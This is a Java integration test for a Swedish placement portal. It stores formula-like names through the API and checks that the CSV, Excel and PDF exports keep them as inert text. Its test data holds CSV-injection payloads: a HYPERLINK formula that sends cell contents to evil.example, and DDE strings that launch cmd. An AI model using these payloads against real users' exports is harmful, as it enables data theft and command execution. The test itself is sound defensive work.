package se.stockholm.vfu.security;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestReporter;
import org.junit.jupiter.api.extension.ExtendWith;
import se.stockholm.vfu.it.Deployments;
import se.stockholm.vfu.it.DistrictFixtures;
import se.stockholm.vfu.it.Fixtures;
import se.stockholm.vfu.it.Http;
import se.stockholm.vfu.it.PageClient;
import se.stockholm.vfu.it.PdfText;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Predicate;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV injection (issue 8, hole 5): names a spreadsheet would run as a formula ({@code =}, {@code +}, {@code -},
 * {@code @} first) are stored by real users through the API in a unit, a supervisor, a place offer's unit, a student
 * request and an inquiry; the central contact presses every table's real CSV and Excel export buttons over HTTP. In
 * the CSV each such cell starts with an apostrophe (OWASP), so a spreadsheet shows it as text; in the Excel file it
 * is a text cell, never a formula, holding the name exactly and marked quote-prefixed (stays text when edited). The
 * PDF export, which runs nothing, holds every name exactly as stored, Swedish letters (å, ä, ö) included.
 * Ordinary values (a name with a hyphen inside, a plain negative number as a name) come out unchanged.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class ExportFormulaIT {

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.portal();
    }

    @ArquillianResource
    URL base;

    /** A table's export on a page, and the values stored in it that the export must carry (formula-like or not). */
    record Table(String page, String form, String term, List<String> values) {
    }

    @Test
    void everyTableExportKeepsFormulaLikeNamesAsTextAndOrdinaryValuesUnchanged(TestReporter report) throws Exception {
        URI root = base.toURI();
        Http http = new Http(root);
        String id = UUID.randomUUID().toString().substring(0, 8);
        long area = Http.array(http.get("api/areas-of-work", Fixtures.CENTRAL, Fixtures.PASSWORD))
                .getJsonObject(0).getJsonNumber("id").longValue();

        String unitName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\") " + id;
        // a plain negative number as a name, unique per run (a district's unit names are unique)
        String plainNumberUnit = Integer.toString(-100_000 - new Random().nextInt(900_000));
        long unit = created(post(http, "api/units", Json.createObjectBuilder().add("areaId", area)
                .add("name", unitName).build(), Fixtures.RINKEBY));
        created(post(http, "api/units", Json.createObjectBuilder().add("areaId", area).add("name", plainNumberUnit)
                .build(), Fixtures.RINKEBY));
        String supervisorName = "+1+cmd|' /C calc'!A0 " + id;
        String hyphenName = "Anna-Lena Öberg Åkesson-Bäck " + id;
        for (String name : List.of(supervisorName, hyphenName)) {
            created(post(http, "api/supervisors", Json.createObjectBuilder().add("unitId", unit).add("name", name)
                    .add("email", "it-formula-" + UUID.randomUUID().toString().substring(0, 8) + "@it.example")
                    .add("maxStudents", 1).build(), Fixtures.RINKEBY));
        }
        created(post(http, "api/terms/" + DistrictFixtures.OPEN_TERM + "/places", Json.createObjectBuilder()
                .add("unitId", unit).add("areaId", area).add("places", 2).add("languages", Json.createArrayBuilder().add("sv"))
                .build(), Fixtures.RINKEBY));
        String studentName = "-2+3+cmd|' /C calc'!A0 " + id;
        created(post(http, "api/terms/" + Fixtures.REQUEST_TERM + "/requests", Json.createObjectBuilder()
                .add("studentRef", "it-formula-" + id).add("studentName", studentName)
                .add("studentEmail", "it-formula-" + id + "@it.example").add("noPreference", true)
                .add("languages", "sv").build(), Fixtures.SU));
        String inquiryName = "@SUM(1+1)*cmd|' /C calc'!A0 " + id;
        long sh = Http.array(http.get("api/universities", Fixtures.CENTRAL, Fixtures.PASSWORD))
                .getValuesAs(JsonObject.class).stream().filter(u -> u.getString("code").equals("SH")).findFirst()
                .orElseThrow().getJsonNumber("id").longValue();
        created(post(http, "api/inquiries", Json.createObjectBuilder().add("studentName", inquiryName)
                .add("studentEmail", "it-formula@it.example").add("message", "Hej").add("receivedOn", "2026-01-15")
                .add("universityId", sh).build(), Fixtures.RINKEBY));

        List<Table> tables = List.of(
                new Table("central/units.xhtml", "unitsForm", null, List.of(unitName, plainNumberUnit)),
                new Table("central/supervisors.xhtml", "supervisorsForm", null, List.of(supervisorName, hyphenName)),
                new Table("central/places.xhtml", "placesForm", DistrictFixtures.OPEN_TERM, List.of(unitName)),
                new Table("central/requests.xhtml", "requestsForm", Fixtures.REQUEST_TERM, List.of(studentName)),
                new Table("inquiries.xhtml", "inquiriesForm", null, List.of(inquiryName)));

        List<String> failures = new ArrayList<>();
        int cells = 0;
        for (Table table : tables) {
            PageClient pages = new PageClient(root, Fixtures.CENTRAL, Fixtures.PASSWORD);
            if (table.term() != null) {
                pages.chooseTerm(table.page(), table.term());
            }
            assertThat(pages.open(table.page()).statusCode()).as(table.page()).isEqualTo(200);
            List<String> csv = csvCells(export(pages, table, "exportCsv"));
            List<XlsxCell> xlsx = xlsxCells(export(pages, table, "exportXlsx"));
            String pdf = PdfText.squeezed(PdfText.of(export(pages, table, "exportPdf")));
            for (String value : table.values()) {
                // a cell may hold more than the name (the inquiries list shows "name <e-mail>"): it starts with it
                boolean formulaLike = !value.equals(plainNumberUnit) && !value.equals(hyphenName);
                String expectedStart = formulaLike ? "'" + value : value;
                // the number alone, not inside a longer number or a date
                Predicate<String> holds = value.equals(plainNumberUnit) ? value::equals : c -> c.contains(value);
                List<String> csvCells = csv.stream().filter(holds).toList();
                cells += csvCells.size();
                if (csvCells.isEmpty() || !csvCells.stream().allMatch(c -> c.startsWith(expectedStart))) {
                    failures.add(table.page() + " CSV: cells with " + value + " should start with " + expectedStart
                            + ": " + csvCells);
                }
                List<XlsxCell> xlsxCells = xlsx.stream().filter(c -> holds.test(c.text()))
                        .toList();
                cells += xlsxCells.size();
                if (xlsxCells.isEmpty() || !xlsxCells.stream().allMatch(c -> c.text().startsWith(value)
                        && c.quotePrefixed() == formulaLike)) {
                    failures.add(table.page() + " Excel: cells with " + value + " should start with it, quote-prefixed "
                            + formulaLike + ": " + xlsxCells);
                }
            }
            for (String value : table.values()) {
                // a PDF runs nothing: every value as stored, Swedish letters included
                if (!pdf.contains(PdfText.squeezed(value))) {
                    failures.add(table.page() + " PDF: lacks " + value);
                }
            }
            if (xlsx.stream().anyMatch(c -> c.type() == CellType.FORMULA)) {
                failures.add(table.page() + " Excel: holds a formula cell");
            }
        }
        report.publishEntry("CSV injection: cells checked in the tables' CSV and Excel exports",
                cells + " cells, " + tables.size() + " tables");
        assertThat(failures).as("export cells a spreadsheet would run, or ordinary values changed").isEmpty();
    }

    private static byte[] export(PageClient pages, Table table, String button) throws Exception {
        HttpResponse<byte[]> export = pages.press(table.page(), table.form() + ":" + button, Map.of());
        assertThat(export.statusCode()).as(table.page() + " " + button).isEqualTo(200);
        assertThat(export.headers().firstValue("Content-Disposition").orElse("")).contains("attachment");
        return export.body();
    }

    private static List<String> csvCells(byte[] body) throws Exception {
        String text = new String(body, StandardCharsets.UTF_8).replace("\uFEFF", "");
        List<String> cells = new ArrayList<>();
        for (CSVRecord record : CSVFormat.DEFAULT.parse(new StringReader(text))) {
            cells.addAll(record.toList());
        }
        return cells;
    }

    /** An Excel cell as read back: its type, its text as shown and whether it is marked quote-prefixed. */
    record XlsxCell(CellType type, String text, boolean quotePrefixed) {
    }

    private static List<XlsxCell> xlsxCells(byte[] body) throws Exception {
        List<XlsxCell> cells = new ArrayList<>();
        DataFormatter formatter = new DataFormatter();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(body))) {
            for (Row row : workbook.getSheetAt(0)) {
                for (Cell cell : row) {
                    cells.add(new XlsxCell(cell.getCellType(), formatter.formatCellValue(cell),
                            cell.getCellStyle().getQuotePrefixed()));
                }
            }
        }
        return cells;
    }

    private static HttpResponse<String> post(Http http, String path, JsonObject body, String user) throws Exception {
        return http.send(HttpRequest.newBuilder(http.uri(path)).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(body.toString())), user, Fixtures.PASSWORD);
    }

    private static long created(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
        String location = response.headers().firstValue("Location").orElseThrow();
        return Long.parseLong(location.substring(location.lastIndexOf('/') + 1));
    }
}
